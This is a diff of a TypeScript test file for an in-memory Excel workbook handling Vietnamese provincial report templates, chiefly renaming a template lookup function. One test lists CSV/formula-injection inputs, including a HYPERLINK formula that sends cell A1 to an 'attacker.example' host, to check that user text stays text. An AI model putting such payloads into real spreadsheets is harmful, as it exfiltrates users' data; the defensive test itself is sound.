@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { getTemplate } from '../../../shared/templates';
+import { templateFor } from '../../../shared/templates';
 import { demoProvinceConsolidations } from '../../../shared/demo/province';
 import { parsePeriod } from '../../../shared/periods';
 import { buildTemplateSheet, cellName, consolidatedWorkbook, sheetMetadataFor } from '../../../shared/workbook';
@@ -26,7 +26,7 @@ describe('typing as Excel reads it in Vietnamese settings', () => {
 describe('the in-memory workbook', () => {
   it('guards a protected template: its yellow inputs take typing, a label and a formula do not, until protection is lifted', async () => {
     const wb = new MemoryWorkbook();
-    const bm03 = getTemplate('BM03')!;
+    const bm03 = templateFor('BM03', '2024-H1')!;
     await wb.writeSheets([buildTemplateSheet(bm03, { period: '2024-H1' })], [sheetMetadataFor(bm03, { period: '2024-H1' })]);
     wb.type('E7', '1.683', 'BM03');
     expect(wb.value('BM03', 6, 4)).toBe(1683);
@@ -40,7 +40,7 @@ describe('the in-memory workbook', () => {
 
   it('holds an inserted template like Excel: names, metadata, formulas unevaluated', async () => {
     const wb = new MemoryWorkbook();
-    const bm03 = getTemplate('BM03')!;
+    const bm03 = templateFor('BM03', '2024-H1')!;
     await wb.writeSheets([buildTemplateSheet(bm03, { period: '2024-H1' })], [sheetMetadataFor(bm03, { period: '2024-H1' })]);
     expect(wb.active).toBe('BM03');
     expect(await wb.templateSheets()).toEqual([{ sheet: 'BM03', template: 'BM03', version: versionOf('BM03', '2024-H1'), period: '2024-H1' }]);
@@ -68,7 +68,7 @@ describe('the in-memory workbook', () => {
   it('never turns user text into a formula: notes, names and labels in consolidated sheets stay text', async () => {
     const hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', '+1+1', '-A1', '@SUM(A1)', '\t=1+1'];
     const period = parsePeriod('2024-H1')!;
-    const [c] = demoProvinceConsolidations('2024-H1', [getTemplate('BM03')!]);
+    const [c] = demoProvinceConsolidations('2024-H1', [templateFor('BM03', '2024-H1')!]);
     // A clerk's note, a unit's name and an explanation of a warning, as hostile as they come.
     const units = c!.units.map((u, i) => ({ ...u, name: hostile[i % hostile.length]!, values: { ...u.values, 'TT01.GC': hostile[(i + 1) % hostile.length]! } }));
     const openWarnings = hostile.map((note, i) => ({ unit: c!.units[i]!.code, code: 'jump', cells: ['TT01.KQ'], message: 'Biến động lớn', note }));
